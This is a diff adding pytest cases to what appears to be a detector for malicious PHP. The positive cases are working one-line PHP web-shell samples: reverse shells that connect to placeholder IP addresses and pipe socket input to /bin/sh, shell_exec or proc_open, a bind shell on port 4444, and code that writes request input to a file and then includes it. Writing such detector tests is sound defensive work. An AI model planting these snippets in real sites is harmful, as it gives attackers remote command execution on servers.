@@ -1176,3 +1176,99 @@ def test_request_body_posted_to_a_host_the_request_names_is_a_relay(code: str) -
 )
 def test_forwarding_to_the_scripts_own_backend_is_not_a_relay(code: str) -> None:
     assert FORWARD not in ids(analyse(code))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a bot: each line the controller sends is run
+        "<?php $s = fsockopen('192.0.2.8', 6667); while (!feof($s)) { fwrite($s, shell_exec(fgets($s))); }",
+        # the address from the request, the connection read with stream_get_line
+        "<?php $c = stream_socket_client('tcp://' . $_GET['h'] . ':80');"
+        ' while ($l = stream_get_line($c, 1024, "\\n")) { passthru($l); }',
+        # socket_create pointed at a fixed address by socket_connect, read with socket_read
+        "<?php $k = socket_create(AF_INET, SOCK_STREAM, SOL_TCP); socket_connect($k, '203.0.113.9', 53);"
+        " popen(socket_read($k, 512), 'r');",
+        # a bind shell: whoever connects to the listening socket types the commands
+        "<?php $l = stream_socket_server('tcp://0.0.0.0:4444'); $c = stream_socket_accept($l);"
+        " exec(fread($c, 512));",
+        # the socket is the shell's standard input (descriptor spec)
+        "<?php $s = fsockopen('198.51.100.4', 443); proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $p);",
+        # a plain "sh" fed by the script from the socket, behind stream_select's ready check
+        "<?php $s = fsockopen('198.51.100.4', 443); $h = proc_open('sh', array(0 => array('pipe', 'r')), $io);"
+        " while (1) { $r = array($s); stream_select($r, $w, $e, 1);"
+        " if (in_array($s, $r)) { fwrite($io[0], fread($s, 1400)); } }",
+        # a shell's input pipe written with request input (array command form)
+        "<?php $h = proc_open(['bash', '-s'], [0 => ['pipe', 'r']], $pp); fwrite($pp[0], $_POST['script']);",
+    ],
+)
+def test_what_a_network_connection_or_the_request_feeds_a_shell_is_a_command(code: str) -> None:
+    reasons = analyse(code)
+    assert CMD in ids(reasons), [(r.id, r.description) for r in reasons]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # a library's client: the server is its setting, not an address the file fixes
+        "<?php class Mc { function get($k) { $s = fsockopen($this->host, $this->port);"
+        " fwrite($s, \"get $k\\r\\n\"); return fgets($s); } } $m = new Mc(); echo shell_exec('date') . $m->get('a');",
+        # a banner shown, a fixed command run
+        "<?php $s = fsockopen('127.0.0.1', 25); echo htmlspecialchars(fgets($s)); echo shell_exec('uptime');",
+        # the application's own script written to a shell; downloaded data given to a program that
+        # only checks it
+        "<?php $h = proc_open('bash', [0 => ['pipe', 'r']], $p); fwrite($p[0], file_get_contents(__DIR__ . '/deploy.sh'));"
+        " $g = proc_open('gpg --verify -', [0 => ['pipe', 'r']], $q);"
+        " fwrite($q[0], file_get_contents('https://example.com/sig.asc'));",
+    ],
+)
+def test_the_applications_own_connections_and_shell_scripts_are_not_reported(code: str) -> None:
+    assert CMD not in ids(analyse(code))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "<?php $h = fopen('/tmp/.x', 'w'); fwrite($h, $_POST['d']); fclose($h); include '/tmp/.x';",
+        "<?php $p = sys_get_temp_dir() . '/c'; $h = fopen($p, 'ab'); fputs($h, $_COOKIE['c']); require_once $p;",
+    ],
+)
+def test_a_file_written_through_a_handle_with_input_then_included_is_code(code: str) -> None:
+    reasons = analyse(code)
+    assert CODE in ids(reasons), [(r.id, r.description) for r in reasons]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        # settings exported as a PHP literal, then loaded
+        "<?php $h = fopen('conf.php', 'w'); fwrite($h, '<?php return ' . var_export($_POST, true) . ';');"
+        " fclose($h); $c = include 'conf.php';",
+        # input logged to one file, another file included; a file read, not written, included
+        "<?php $l = fopen('log.txt', 'a'); fwrite($l, $_POST['m']); include 'view.php';"
+        " $r = fopen('view.php', 'r'); fwrite($r, $_POST['m']);",
+    ],
+)
+def test_files_written_through_handles_without_raw_input_are_not_code(code: str) -> None:
+    assert CODE not in ids(analyse(code))
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "<?php foreach (array('system', 'passthru') as $fn) { $fn($_POST['c']); }",
+        "<?php $l = ['strlen', 'shell_exec', 'exec']; foreach ($l as $k => $f) { if (function_exists($f))"
+        " { echo $f($_GET['q']); break; } }",
+    ],
+)
+def test_a_loop_over_command_function_names_calls_them(code: str) -> None:
+    reasons = analyse(code)
+    assert CMD in ids(reasons), [(r.id, r.description) for r in reasons]
+
+
+def test_a_loop_over_command_function_names_with_fixed_commands_is_not_reported() -> None:
+    code = (
+        "<?php foreach (array('exec', 'system') as $fn) { if (function_exists($fn)) { $v = $fn('git --version');"
+        " break; } } foreach (array('trim', 'strtolower') as $g) { $n = $g($_GET['n']); } echo htmlspecialchars($n);"
+    )
+    assert not analyse(code)
